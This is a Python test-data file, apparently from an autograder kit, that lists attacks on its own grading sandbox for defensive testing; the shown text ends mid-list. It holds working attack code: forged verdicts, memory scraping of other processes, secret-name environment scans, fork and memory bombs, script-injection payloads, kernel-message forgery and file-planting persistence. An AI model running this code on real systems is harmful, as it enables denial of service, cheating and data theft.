# ruff: noqa: E501  (attacks are told in as few lines as they take)
"""Attacks on this kit's own design, as data; see attacks.py for the words in capitals and for GOT and TRIED.

Each is one student's submission to module 00: a cell of its own before the questions, an answer to Q0.2 that
is wrong, and one to Q0.4 that is right unless the attack needs that one too.
"""

from dataclasses import dataclass, field

GIB = "def weight_gib(n_parameters, bits):\n    return n_parameters * bits / 8 / 2**30"
WRONG = "def weight_gib(n_parameters, bits):\n    return 1.0"
RIGHT = """
def sort_claims(claims):
    groups = {"measurable": [], "sourced": [], "opinion": []}
    for claim in claims:
        kind = "measurable" if claim.get("measurable_here") else "sourced" if claim.get("primary_source") else "opinion"
        groups[kind].append(claim["id"])
    return groups
"""


@dataclass(frozen=True)
class Attack:
    """One attack: what it would gain if it worked, its code, and how the row must look.

    gib, sort: answers to Q0.2 and Q0.4. keeps: points that stand in spite of it. status: any of these words.
    tries: how many "TRIED" it must come to, at least; 0 where it prints nothing.
    """

    name: str
    would: str
    cell: str = ""
    gib: str = WRONG
    sort: str = RIGHT
    more: dict[str, str] = field(default_factory=dict)
    keeps: dict[str, float] = field(default_factory=lambda: {"Q0.4": 2.0})
    status: str = "graded"
    tries: int = 0


# Helpers that attacks begin with

TRY = '''
import os, sys, json, re, socket, time
tried = 0
def attempt(name, work):
    """Note what an attempt got, if anything."""
    global tried
    tried += 1
    try:
        got = work()
    except BaseException as error:
        return
    if got:
        print("GOT", name, str(got)[:200])
'''
DONE = '\nprint("TRIED", tried)\n'
WIRE = '''
import socket, struct, sys, time
from openweightlab.grading import wire
def judge():
    """The connection over which the question came, from the check's own frames."""
    frame = sys._getframe()
    while frame:
        for value in frame.f_locals.values():
            if isinstance(value, socket.socket):
                return value
        frame = frame.f_back
'''


def on_first_call(work: str) -> str:
    """An answer to Q0.2 that does something at its first case and is wrong."""
    lines = "".join(f"        {line}\n" for line in work.strip().splitlines())
    return f"{WIRE}\nseen = []\ndef weight_gib(n_parameters, bits):\n    seen.append(bits)\n    if len(seen) == 1:\n{lines}    return 1.0"


# Messages to the judge

FORGED = [
    Attack(
        "a check asked for early, in a thread, that answers with verdicts",
        "full points by its own word",
        """
import threading, openweightlab as owl
forged = lambda *arguments: {"ok": True, "verdict": True, "points": 2.0, "said": "answered"}
threading.Thread(target=owl.check, args=("Q0.2", forged), daemon=True).start()
""",
    ),
    Attack(
        "two results for one question",
        "the second chance",
        gib=on_first_call('for value in (1.0, 2.0):\n    wire.send(judge(), {"result": value})'),
    ),
    Attack(
        "results and verdicts before their questions",
        "results that were never asked for",
        gib=on_first_call(
            'for _ in range(40):\n    wire.send(judge(), {"result": 1.0, "ok": True, "points": 2.0})\n'
            '    wire.send(judge(), {"ok": True})\n    wire.send(judge(), {"said": "answered"})'
        ),
    ),
    Attack(
        "a result for another question",
        "another question's points",
        gib=on_first_call(
            'wire.send(judge(), {"question": "Q0.1", "result": 1})\nwire.send(judge(), {"question": "Q0.2"})'
        ),
    ),
    Attack(
        "right results, each after its time",
        "more time than others have",
        gib="""
import time
def weight_gib(n_parameters, bits):
    try:
        time.sleep(60)
    except KeyboardInterrupt:
        pass
    return n_parameters * bits / 8 / 2**30
""",
        status="timeout graded",
    ),
    Attack(
        "a reply that drips in byte by byte",
        "a grader that waits for ever",
        gib=on_first_call(
            'for byte in wire.pack({"result": 1.0}) * 99:\n    judge().sendall(bytes([byte]))\n    time.sleep(0.3)'
        ),
        status="timeout graded",
    ),
    Attack(
        "lengths of 4 GiB",
        "the grader's memory",
        gib=on_first_call('judge().sendall(struct.pack(">II", 2**32 - 1, 2**32 - 1) + b"x" * 2**16)'),
        status="graded",
    ),
    Attack(
        "a JSON bomb of empty lists",
        "the grader's memory",
        gib=on_first_call(
            'text = b"[" + b"[]," * (2**22 // 3 - 2) + b"[]]"\njudge().sendall(struct.pack(">II", len(text), 0) + text)'
        ),
        status="graded",
    ),
    Attack(
        "JSON nested a million deep",
        "the grader's stack",
        gib=on_first_call('text = b"[" * 10**6\njudge().sendall(struct.pack(">II", len(text), 0) + text)'),
        status="graded",
    ),
    Attack(
        "tensors whose offsets lie",
        "memory of the grader's, as a result",
        gib=on_first_call(
            'import json\nhead = json.dumps({"0": {"dtype": "F32", "shape": [2**40], "data_offsets": [0, 2**42]},'
            ' "1": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()\n'
            'blob = struct.pack("<Q", len(head)) + head + bytes(8)\n'
            'text = b\'{"result": {"$tensor": "0"}}\'\n'
            'judge().sendall(struct.pack(">II", len(text), len(blob)) + text + blob)'
        ),
        status="graded",
    ),
]

# The kit's own code, changed in the student's process

PATCHED = [
    Attack(
        "owl.check, the verdict and the comparison patched",
        "a judge that says yes",
        """
import openweightlab as owl, openweightlab.check, openweightlab.questions as questions, sys
check = sys.modules["openweightlab.check"]
yes = lambda *arguments: questions.Verdict(True)
check.judge_case = yes
for question in questions.load("00_workbench").values():
    object.__setattr__(question, "compare", yes)
real = check.answer
def answer(question, functions, inputs):
    return real(question, functions, inputs) | {"ok": True, "verdict": {"ok": True}, "points": 2}
check.answer = answer
""",
        keeps={},
    ),
    Attack(
        "questions.find hands out an easier question",
        "points for the wrong question",
        """
import dataclasses, openweightlab.questions as questions
real = questions.find
def find(id):
    easier = real("Q0.4")
    return dataclasses.replace(easier, id=id, functions=real(id).functions, call=lambda *a: {"groups": {}, "unchanged": True})
questions.find = find
""",
        keeps={},
    ),
    Attack(
        "wire.flatten and wire.pack patched to send what is expected",
        "the expected result's shape",
        """
from openweightlab.grading import wire
real = wire.pack
wire.flatten = lambda value, depth=0: {"value": value, "mistakes": {}}
wire.pack = lambda value: real(value | {"expected": value.get("result")} if isinstance(value, dict) else value)
""",
        keeps={},
    ),
    Attack(
        "Question.call patched to tell what was observed",
        "points for what was not done",
        """
import openweightlab.questions as questions
for question in questions.load("00_workbench").values():
    object.__setattr__(question, "call", lambda functions, inputs: {
        "value": 1.0, "probabilities": __import__("torch").zeros(7), "groups": {}, "unchanged": True, "graph": False,
        "dropout_after": True, "weights_after": "torch.bfloat16"})
""",
        more={
            "Q1": "def count_parameters(model): return 1",
            "Q3": "def next_token_probabilities(model, ids): return 1",
        },
        keeps={},
    ),
    Attack(
        "recorded public results, looked up",
        "points for copying",
        """
import openweightlab.questions as questions
public = questions.public_cases("00_workbench")
def recorded(id, inputs):
    cases = public[id]
    same = [case for case in cases if str(case.inputs) == str(inputs)]
    return (same or cases)[0].expected
""",
        gib="""
def weight_gib(n_parameters, bits):
    return recorded("Q0.2", {"n_parameters": n_parameters, "bits": bits})["value"]
""",
        sort='def sort_claims(claims):\n    return recorded("Q0.4", {"claims": claims}).get("groups")',
        more={"Q1": 'def count_parameters(model):\n    return recorded("Q0.1", {})["value"]'},
        keeps={},
    ),
]

# Results that lie about what they are

LIES = """
import decimal, fractions, math
import numpy as np
class Int(int):
    __eq__ = __lt__ = __gt__ = lambda self, other: True
    __hash__ = int.__hash__
    __float__ = lambda self: 1.0
    __add__ = __radd__ = __sub__ = lambda self, other: 0
class Float(float):
    __eq__ = lambda self, other: True
    __hash__ = float.__hash__
    item = __float__ = __add__ = lambda self, *a: 7.0
class Text(str):
    __eq__ = lambda self, other: True
    __hash__ = str.__hash__
    __add__ = encode = lambda self, *a: "1.0"
class List(list):
    __len__ = lambda self: 2**40
    __iter__ = lambda self: iter([1.0] * 300_000)
class Dict(dict):
    items = lambda self: [("$tensor", "0"), ("value", 1.0), ("value", 2.0)]
class Array(np.ndarray):
    item = tolist = lambda self, *a: 1.0
    dtype = property(lambda self: np.dtype("float64"))
loop = []
loop.append(loop)
deep = []
for _ in range(10_000):
    deep = [deep]
lies = [
    Int(1), Float(1), Text("1.0"), "\\ud800" * 5, Dict(value=1.0), 10**5000, -10**400, float("nan"), float("inf"),
    True, "1.0", [1.0], {"value": 1.0, "mistakes": {}}, {"$tensor": "0"}, loop, deep, "x" * 2**23, List(),
    1 + 2j, decimal.Decimal(1), fractions.Fraction(1), iter([1.0]), (1.0,), {1.0}, b"1.0", type, lambda: 1.0,
    np.float64("nan"), np.longdouble(1), np.array([1.0]).view(Array), np.array(["1.0"]), np.array([None]),
    np.datetime64("NaT"), np.ma.masked, np.zeros((0, 2**40)), range(2**40), bytearray(9), memoryview(b"1"),
    KeyboardInterrupt(), {"\\ud800": 1}, {"ok": True}, {"result": 1.0}, -0.0, 5e-324,
]
"""
TENSOR_LIES = """
import torch
class Liar(torch.Tensor):
    shape = property(lambda self: torch.Size([]))
    item = lambda self: 1.0
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        return torch.tensor(1.0)
payload = torch.tensor([0x7FF8DEADBEEF], dtype=torch.int64).view(torch.float64)
makers = [
    lambda: torch.zeros(1).expand(2**40), lambda: torch.zeros(9).as_strided((2**20, 2**20), (0, 0)),
    lambda: torch.eye(3).to_sparse(), lambda: torch.zeros(3, device="meta"),
    lambda: torch.quantize_per_tensor(torch.ones(3), 0.1, 0, torch.quint8), lambda: payload,
    lambda: torch.ones(3, dtype=torch.complex64), lambda: torch.ones(3).as_subclass(Liar),
    lambda: torch.full((), float("inf")), lambda: torch.ones(1, 1, 1, 1, 1, 1, 1, 1, 1, 1),
    lambda: torch.zeros(2**25, dtype=torch.float64), lambda: torch.zeros(0, 2**40),
    lambda: torch.nested.nested_tensor([torch.ones(1), torch.ones(2)]), lambda: {"probabilities": torch.ones(3)},
    lambda: torch.zeros(2**40, dtype=torch.uint8, device="meta"), lambda: torch.ones(3, dtype=torch.float8_e4m3fn),
    lambda: torch.tensor(True), lambda: torch.empty(5), lambda: torch.zeros(3, requires_grad=True) * 2,
    lambda: [torch.zeros(1)] * 300,
]
"""
LYING = [
    Attack(
        "results that lie about their type or length",
        "a comparison that holds",
        LIES,
        gib="def weight_gib(n_parameters, bits):\n    return lies.pop(0)",
        sort="def sort_claims(claims):\n    return lies.pop(0)",
        keeps={},
        status="graded",
    ),
    Attack(
        "more results that lie",
        "a comparison that holds",
        LIES + "\nlies = lies[18:]\n",
        gib="def weight_gib(n_parameters, bits):\n    return lies.pop(0)",
        sort='def sort_claims(claims):\n    return {"measurable": lies.pop(0), "sourced": lies[1], "opinion": lies[2]}',
        keeps={},
        status="graded",
    ),
    Attack(
        "tensors that lie",
        "a comparison that holds, the grader's memory",
        TENSOR_LIES,
        more={
            "Q1": "def count_parameters(model):\n    return makers.pop(0)()",
            "Q3": "def next_token_probabilities(model, ids):\n    return makers.pop(0)()",
        },
        status="graded",
    ),
]

# What can be found: memory, processes, files, variables

PROCESSES = '''
def others():
    """Every process in sight but this one; the first few numbers where there is no list of them."""
    try:
        return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
    except OSError:
        return [1, 2, os.getppid(), os.getppid() - 1]
canary = re.compile(rb"canary-[0-9a-f]{32}")
expected = re.compile(rb'"gibibits": ?[0-9.e+]+')
def search(pid):
    """Canaries and expected results in a process's memory."""
    found = set()
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            match = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
            start, end = (int(text, 16) for text in match.groups()) if match else (0, 0)
            if match and "[v" not in line and end - start < 2**28:
                try:
                    memory.seek(start)
                    found |= set(canary.findall(memory.read(end - start)))
                except (OSError, ValueError, OverflowError):
                    continue
    return found
'''
FINDING = [
    Attack(
        "memory of other processes",
        "expected results, the seed",
        TRY
        + PROCESSES
        + """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
def read_directly(pid):
    place = next(line for line in open(f"/proc/{os.getpid()}/maps") if " rw" in line).split("-")[0]
    room = ctypes.create_string_buffer(64)
    mine, theirs = Vector(ctypes.addressof(room), 64), Vector(int(place, 16), 64)
    return libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0
def trace(pid):
    if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
        os.waitpid(pid, 0)
        libc.ptrace(17, pid, None, None)
        return True
for pid in others():
    attempt(f"memory of {pid}", lambda: search(pid))
    attempt(f"writable memory of {pid}", lambda: pid not in (1, os.getppid()) and bool(open(f"/proc/{pid}/mem", "r+b", 0)))
    attempt(f"process_vm_readv of {pid}", lambda: read_directly(pid))
    attempt(f"ptrace of {pid}", lambda: trace(pid))
for pid in {os.getppid(), 1, *range(<<GRADER>> - 2, <<GRADER>> + 3)} - {os.getpid(), 0}:
    attempt(f"memory of number {pid}", lambda: search(pid))
attempt("canaries in my own memory", lambda: search("self"))
"""
        + DONE,
        tries=6,
    ),
    Attack(
        "objects, frames and modules left in the student's own process",
        "what a process before left behind",
        TRY
        + """
import gc, types
from openweightlab import questions
texts = {str(case.inputs) for cases in questions.public_cases("00_workbench").values() for case in cases}
def cases():
    return [o for o in gc.get_objects() if type(o).__name__ == "Case" and str(o.inputs) not in texts]
def named(*names):
    return [type(o).__name__ for o in gc.get_objects() if type(o).__name__ in names and "openweightlab" in type(o).__module__]
attempt("hidden cases", cases)
attempt("expected results", lambda: [o for o in gc.get_objects() if isinstance(o, dict) and "gibibits" in o and "value" in o])
attempt("the judge's objects", lambda: named("Server", "Outcome", "Course", "_Run", "Record", "Task"))
attempt("the judge's module", lambda: [name for name in sys.modules if "owl_judge" in name])
attempt("other students' answers", lambda: [o for o in gc.get_objects() if isinstance(o, types.FunctionType)
    and o.__name__ in ("weight_gib", "sort_claims", "count_parameters") and "ipykernel" in o.__code__.co_filename])
attempt("other students' cells", lambda: [text for text in get_ipython().history_manager.input_hist_raw[1:-1] if "Q0." in text and "answer" in text])
attempt("other notebooks' names", lambda: [name for name in get_ipython().user_ns if name.startswith("planted")])
attempt("names in builtins", lambda: [name for name in dir(__builtins__) if name.startswith("planted")])
attempt("planted modules", lambda: [name for name in sys.modules if name.startswith("planted")])
attempt("planted files", lambda: [f for d in ("/tmp", "/dev/shm", os.path.expanduser("~"), os.getcwd()) for f in os.listdir(d) if "planted" in f])
"""
        + DONE,
        tries=10,
    ),
    Attack(
        "files",
        "judges, seeds, marks, other submissions",
        TRY
        + PROCESSES
        + """
import stat, sys, sysconfig
on_the_way = lambda path: any(f"{python}/".startswith(f"{path}/") for python in (sys.prefix, sys.base_prefix))
for place in ("<<ROOT>>", "<<ROOT>>/judges", "<<ROOT>>/.owl", "<<ROOT>>/submitted", "<<ROOT>>/gradebook.db", "<<ROOT>>/solutions", "<<CHECKOUT>>/judges",
              "<<CHECKOUT>>/tests", "<<CHECKOUT>>/solutions", "<<HOME>>"):
    attempt(f"list {place}", lambda: [n for n in os.listdir(place) if not on_the_way(f"{place}/{n}")])
    attempt(f"open {place}", lambda: open(place).read(10))
    for process in ("self", "1", str(os.getppid())):
        attempt(f"{place} by way of {process}", lambda: [n for n in os.listdir(f"/proc/{process}/root{place}") if not on_the_way(f"{place}/{n}")])
shown = (sys.prefix, sys.base_prefix, "/usr", "/proc", "/sys", "/lib", "/opt", "/nix", sysconfig.get_path("stdlib"))
names = re.compile(r"gradebook[.]db|judges|solutions|[.]cases$|/records/|mutants|submitted|in[.]json|out[.]json|/seed$")
looked = 0
def walk():
    global looked
    found = []
    for folder, folders, files in os.walk("/", followlinks=False):
        if folder.startswith(shown):
            folders.clear()
            continue
        for name in files:
            path = os.path.join(folder, name)
            looked += 1
            if names.search(path):
                found.append(path)
            try:
                if stat.S_ISREG(os.stat(path).st_mode) and os.stat(path).st_size < 10**6 and canary.search(open(path, "rb").read()):
                    found.append(path)
            except OSError:
                continue
    return found
attempt("anything readable", walk)
import openweightlab
kit = os.path.dirname(openweightlab.__file__)
attempt("judges in the package", lambda: [os.path.join(d, f) for d, _, fs in os.walk(kit) for f in fs if "judges/" in os.path.join(d, f)])
for place in (kit, kit + "/questions/cases", sys.prefix, "/usr", "/usr/local/bin", "/etc", "/", "<<ROOT>>", "<<ROOT>>/submitted", "/var/tmp", "/run",
              sysconfig.get_path("purelib")):
    attempt(f"write into {place}", lambda: os.access(place, os.W_OK) and (open(place + "/planted", "w").close() or place))
for place in (kit + "/check.py", sys.executable, os.__file__):
    attempt(f"change {place}", lambda: open(place, "r+"))
"""
        + DONE,
        tries=60,
    ),
    Attack(
        "environments, command lines and open files",
        "the seed, paths, sockets",
        TRY
        + PROCESSES
        + """
attempt("my environment", lambda: canary.search(str(dict(os.environ)).encode()))
attempt("my first environment", lambda: canary.search(open("/proc/self/environ", "rb").read()))
attempt("the seed", lambda: [name for name in os.environ if re.search("OWL_SEED|TOKEN$|SECRET|KEY$|PASS", name)])
for pid in [*others(), *range(max(2, <<GRADER>> - 3), <<GRADER>> + 4)]:
    for name in ("environ", "cmdline", "stack", "auxv"):
        attempt(f"{name} of {pid}", lambda: canary.search(open(f"/proc/{pid}/{name}", "rb").read()))
    attempt(f"files of {pid}", lambda: [link for link in (os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")) if "<<ROOT>>" in link])
    attempt(f"folder of {pid}", lambda: os.listdir(f"/proc/{pid}/cwd") and "<<ROOT>>" in os.readlink(f"/proc/{pid}/cwd"))
for fd in map(int, os.listdir("/proc/self/fd")):
    attempt(f"open file {fd}", lambda: any(word in os.readlink(f"/proc/self/fd/{fd}") for word in ("<<ROOT>>", "<<CHECKOUT>>", "records", "submitted")))
    attempt(f"what open file {fd} holds", lambda: os.fstat(fd).st_mode & 0o170000 == 0o100000 and canary.search(os.pread(fd, 10**6, 0)))
    attempt(f"the folder that {fd} is", lambda: os.fstat(fd).st_mode & 0o170000 == 0o040000 and os.listdir(fd))
"""
        + DONE,
        tries=30,
    ),
]

# Bombs

FIND_SOCKETS = """
from ipykernel.kernelapp import IPKernelApp
SOCKETS = str(IPKernelApp.instance().ip)
"""

BOMB_STATUS = "graded crashed timeout"
BOMBS = [
    Attack(
        "a fork bomb",
        "the machine's processes",
        """
import os, time
end = time.monotonic() + 60
while time.monotonic() < end:
    try:
        os.fork()
    except OSError:
        time.sleep(0.05)
""",
        status=BOMB_STATUS,
    ),
    Attack(
        "memory taken by many processes",
        "the machine's memory",
        """
import os, time
for _ in range(20):
    if os.fork() == 0:
        kept = bytearray(b"x") * (150 * 2**20)
        time.sleep(5)
        os._exit(0)
time.sleep(5)
""",
        status=BOMB_STATUS,
    ),
    Attack(
        "memory that is no process's own: memfd, /dev/shm, SysV, shared maps let go of",
        "memory that nobody counts",
        """
import ctypes, mmap, os, time
libc, block, taken, kept = ctypes.CDLL(None), b"x" * 2**24, 0, []
libc.shmat.restype = ctypes.c_void_p
most = (<<LIMIT_MIB>> + 500) * 2**20
def in_memory(n):
    kept.append(os.memfd_create(f"x{n}"))
    return kept[-1]
def in_shm(n):
    kept.append(os.open(f"/dev/shm/x{n}", os.O_CREAT | os.O_RDWR))
    return kept[-1]
for way in (in_memory, in_shm):
    for n in range(12):
        try:
            handle = way(n)
            for _ in range(8):
                taken += os.write(handle, block)
        except (OSError, AttributeError):
            break
for fd in (-1, "/dev/zero"):
    for n in range(12):
        try:
            shared = mmap.mmap(fd if fd == -1 else os.open(fd, os.O_RDWR), 2**27)
            for place in range(0, 2**27, 2**24):
                shared[place : place + 2**24] = block
                shared.madvise(mmap.MADV_DONTNEED, place, 2**24)
            kept.append(shared)
            taken += 2**27 if taken < most else 0
        except (OSError, ValueError):
            break
for n in range(12):
    segment = libc.shmget(0, 2**27, 0o1600)
    address = libc.shmat(segment, None, 0) if segment >= 0 else None
    if not address or address == 2**64 - 1:
        break
    ctypes.memset(address, 1, 2**27)
    taken += 2**27
time.sleep(1)
print("GOT" if taken > most else "took", taken // 2**20, "MiB that were nobody's")
""",
        status=BOMB_STATUS,
    ),
    Attack(
        "page tables of a terabyte that is only read",
        "memory that is no page",
        """
import mmap, re, time
empty = mmap.mmap(-1, 2**40, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x4000, mmap.PROT_READ)
empty.madvise(15)  # MADV_NOHUGEPAGE
for place in range(0, int(<<LIMIT_MIB>> * 1.3) * 2**29, 2**21):
    empty[place]
time.sleep(1)
tables = int(re.search(r"VmPTE:\\s+(\\d+)", open("/proc/self/status").read())[1]) // 1024
print("GOT" if tables > <<LIMIT_MIB>> else "took", tables, "MiB of page tables")
""",
        status=BOMB_STATUS,
    ),
    Attack(
        "a disk full of files",
        "the disk",
        FIND_SOCKETS
        + """
import os, sys, time
taken = 0
for folder in (os.getcwd(), os.path.expanduser("~"), "/tmp", "/var/tmp", os.path.dirname(SOCKETS)):
    try:
        for n in range(20):
            with open(f"{folder}/filler{n}", "wb") as file:
                for _ in range(8):
                    taken += file.write(b"x" * 2**24)
    except OSError:
        continue
time.sleep(0.5)
print("GOT" if taken > 1000 * 2**20 else "took", taken // 2**20, "MiB of files")
""",
        status=BOMB_STATUS,
    ),
    Attack(
        "folders nested 3,000 deep, and links round in a circle",
        "a grader that can't clear up",
        FIND_SOCKETS
        + """
import os
for start in (os.path.expanduser("~"), "/tmp", os.path.dirname(SOCKETS)):
    try:
        os.chdir(start)
        os.symlink(".", "circle")
        for _ in range(3000):
            os.mkdir("d")
            os.chdir("d")
    except OSError:
        continue
os.chdir("/")
""",
        status=BOMB_STATUS,
    ),
    Attack(
        "threads, open files and pipes without end",
        "the machine's tables",
        """
import os, resource, threading, time
kept = []
try:
    for _ in range(20_000):
        thread = threading.Thread(target=time.sleep, args=(6,), daemon=True)
        thread.start()
        kept.append(thread)
except BaseException:
    pass
print("GOT" if len(kept) > 10_000 else "took", len(kept), "threads")
for limit in (10**6, 65536):
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
    except (OSError, ValueError):
        pass
pipes = []
try:
    for _ in range(100_000):
        pipes += os.pipe()
except BaseException:
    pass
print("GOT" if len(pipes) > 70_000 else "took", len(pipes), "files")
for fd in pipes:
    os.close(fd)
""",
        status=BOMB_STATUS,
    ),
    Attack(
        "limits lifted, then 100 processes and a huge array",
        "limits that are asked for, not kept",
        """
import resource, subprocess, time
for name in dir(resource):
    if name.startswith("RLIMIT_"):
        try:
            resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY,) * 2)
        except (OSError, ValueError):
            pass
try:
    kept = bytearray(b"x") * (3 * <<LIMIT_MIB>> * 2**20)
    print("GOT", len(kept))
except MemoryError:
    pass
""",
        status=BOMB_STATUS,
    ),
]

FLOOD = """
import io, sys, time
from IPython.display import HTML, clear_output, display, update_display
"""
OUTPUTS = [
    Attack(
        "endless prints, pictures, comms and cleared outputs",
        "the grader's memory, a record of any size",
        FLOOD
        + """
for _ in range(15):
    print("y" * 10**6)
shown = display(HTML("x"), display_id="one")
for n in range(300):
    update_display(HTML(f"{n}" * 1000), display_id="one")
    clear_output(wait=bool(n % 2))
display({"text/plain": "x" * 9_000_000, "application/json": [[0] * 1000] * 1000, "image/png": "iVBORw0KGgo" * 10**5}, raw=True)
display({"text/html": "<b>" * 10**6, "application/x-" + "z" * 10**5: 1, "image/svg+xml": "<svg onload='x()'/>"}, raw=True)
from comm import create_comm
for n in range(100):
    create_comm(target_name="x", data={"x": "y" * 10**5})
sys.stderr.write("z" * 2**23)
print("\\x1b]0;title\\x07\\x1b[2J\\x1b[31m\\r\\x08" * 1000)
raise RuntimeError("\\x1b[2J" + "w" * 2**22)
""",
        status="graded timeout",
    ),
    Attack(
        "scripts in every kind of output, text and picture",
        "a script in the teacher's browser",
        FLOOD
        + """
bad = '<script>window.pwned = 1</script><img src=x onerror="window.pwned=1">'
for kind in ("text/html", "text/markdown", "text/latex", "image/svg+xml", "application/javascript", "text/plain",
             "application/vnd.jupyter.widget-view+json", "application/vnd.plotly.v1+json", "image/png", "image/jpeg", "application/pdf"):
    display({kind: bad, "text/plain": bad}, raw=True, metadata={"isolated": True, "alt": bad})
display({"image/png": 'iVBORw0KGgo="' + bad, "text/plain": "x"}, raw=True, metadata={"image/png": {"width": '1" onload="x()'}})
class Named(Exception):
    _render_traceback_ = lambda self: [bad, "\\x1b]8;;javascript:x()\\x07here\\x1b]8;;\\x07"]
Named.__name__ = Named.__qualname__ = bad
print(bad, file=sys.stderr)
raise Named(bad)
""",
        gib='def weight_gib(n_parameters, bits):\n    raise ValueError("<script>window.pwned = 1</script>")',
    ),
]

SCRIPTS = OUTPUTS[1]

# The kernel's own sockets

FORGE = '''
import time
from ipykernel.kernelapp import IPKernelApp
kernel = get_ipython().kernel
def forge(kind, content, socket=None, parent=None):
    """A message in the kernel's name, signed with its key."""
    kernel.session.send(socket or kernel.iopub_socket, kind, content, parent=parent or kernel.get_parent("shell"),
                        ident=kernel._parent_ident.get("shell") if socket else None)
'''
SOCKETS = [
    Attack(
        "forged ends: idle before the outputs, an ok reply before the cell is over, a death that didn't happen",
        "a check that counts as done",
        FORGE,
        gib=FORGE
        + """
def weight_gib(n_parameters, bits):
    forge("status", {"execution_state": "idle"})
    forge("execute_reply", {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}, kernel.shell_stream.socket
          if hasattr(kernel, "shell_stream") and kernel.shell_stream else None)
    forge("status", {"execution_state": "dead"})
    forge("status", {"execution_state": "restarting"})
    forge("lost", {})
    forge("execute_result", {"data": {"text/plain": "2.0"}, "metadata": {}, "execution_count": 1})
    return 1.0
""",
        status=BOMB_STATUS,
    ),
    Attack(
        "messages that are none",
        "a grader that trips",
        FORGE
        + """
for kind in ("stream", "display_data", "execute_result", "error", "status", "x" * 10**6, "\\ud800"):
    for content in ({}, {"text": 1}, {"name": [], "text": {}}, {"data": 7}, {"data": {"text/plain": {}}}, {"traceback": 5, "ename": []},
                    {"execution_state": []}, {"data": {"image/png": ["x"]}, "metadata": "x"}, {"n": 10**400}):
        forge(kind, content)
deep = "x"
for _ in range(900):
    deep = [deep]
forge("stream", {"text": deep})
kernel.iopub_socket.send_multipart([b"<IDS|MSG>", b"bad", b"{", b"[", b"}", b"\\xff"])
kernel.iopub_socket.send_multipart([b""] * 5000)
""",
    ),
    Attack(
        "output messages of 32 MB that are eleven million lists",
        "the grader's memory and time",
        FORGE
        + """
parts = kernel.session.serialize(kernel.session.msg("stream", {"name": "stdout", "text": "x"}, parent=kernel.get_parent("shell")))
body = parts[parts.index(b"<IDS|MSG>") + 2 :]
for size in (2**20, 2**22, 2**25):
    body[3] = b"[" + b"[]," * (size // 3 - 200) + b"[]]"
    for _ in range(3):
        kernel.iopub_socket.send_multipart([b"stream", b"<IDS|MSG>", kernel.session.sign(body), *body])
""",
        status=BOMB_STATUS,
    ),
    Attack(
        "one message of endless parts, sent past the kernel",
        "the grader's memory",
        """
import os, socket, struct, threading, time
from ipykernel.kernelapp import IPKernelApp
app = IPKernelApp.instance()
path = f"{app.ip}-{app.iopub_port}"
os.unlink(path)
server = socket.socket(socket.AF_UNIX)
server.bind(path)
server.listen(8)
for name in os.listdir("/proc/self/fd"):
    try:
        with socket.socket(fileno=os.dup(int(name))) as old:
            if old.family == socket.AF_UNIX and old.getsockname() == path and not old.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                old.shutdown(2)
    except OSError:
        continue
sent = 0
def serve():
    global sent
    peer, _ = server.accept()
    peer.sendall(b"\\xff" + bytes(7) + b"\\x01\\x7f\\x03\\x00" + b"NULL".ljust(20, b"\\0") + bytes(32))
    left = 64
    while left:
        left -= len(peer.recv(left))
    ready = b"\\x05READY\\x0bSocket-Type" + struct.pack(">I", 3) + b"PUB"
    peer.sendall(b"\\x04" + bytes([len(ready)]) + ready)
    part = b"\\x03" + struct.pack(">Q", 2**20) + bytes(2**20)
    for _ in range(1500):
        peer.sendall(part)
        sent += 1
threading.Thread(target=serve, daemon=True).start()
time.sleep(6)
""",
        status=BOMB_STATUS,
    ),
    Attack(
        "the sockets' folder filled, its files replaced by links and folders",
        "files written elsewhere by the grader's hand",
        """
import os, socket
from ipykernel.kernelapp import IPKernelApp
places = {os.path.dirname(str(IPKernelApp.instance().ip)), os.path.dirname(os.environ.get("OWL_JUDGE", "/"))} - {"", "/"}
for place in places:
    for name in os.listdir(place):
        try:
            os.rename(os.path.join(place, name), os.path.join(place, name + ".old"))
            os.symlink("<<ROOT>>/gradebook.db", os.path.join(place, name))
        except OSError:
            continue
    try:
        os.symlink("<<ROOT>>/submitted", os.path.join(place, "folder"))
        os.mkfifo(os.path.join(place, "fifo"))
        os.chmod(place, 0)
    except OSError:
        continue
""",
        status=BOMB_STATUS,
    ),
]

# What stays behind or reaches others

STAY = [
    Attack(
        "processes and threads that outlive the notebook, and plant things for the next",
        "somebody else's marks, a process that stays",
        """
import atexit, builtins, os, signal, subprocess, sys, threading, time
def plant():
    for folder in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd(), os.path.expanduser("~"), *sys.path, sys.prefix):
        try:
            open(os.path.join(folder, "planted.py"), "w").write("planted = True")
            open(os.path.join(folder, "sitecustomize.py"), "w").write("planted = True")
        except OSError:
            continue
plant()
builtins.planted = True
sys.modules["planted"] = sys
import openweightlab.questions
openweightlab.questions.planted = True
atexit.register(lambda: (plant(), os.fork() or time.sleep(300)))
for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1, signal.SIGCHLD):
    signal.signal(number, lambda *a: plant())
threading.Thread(target=lambda: [plant() or time.sleep(0.5) for _ in range(600)], daemon=False).start()
first = os.fork()
if first == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 60))
    os.closerange(0, 3)
    os.execve(sys.executable, ["owl-attack-stray", "-c", "import time; time.sleep(300)"], {})
os.waitpid(first, 0)
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(300)", "owl-attack"], start_new_session=True)
""",
        status=BOMB_STATUS,
    ),
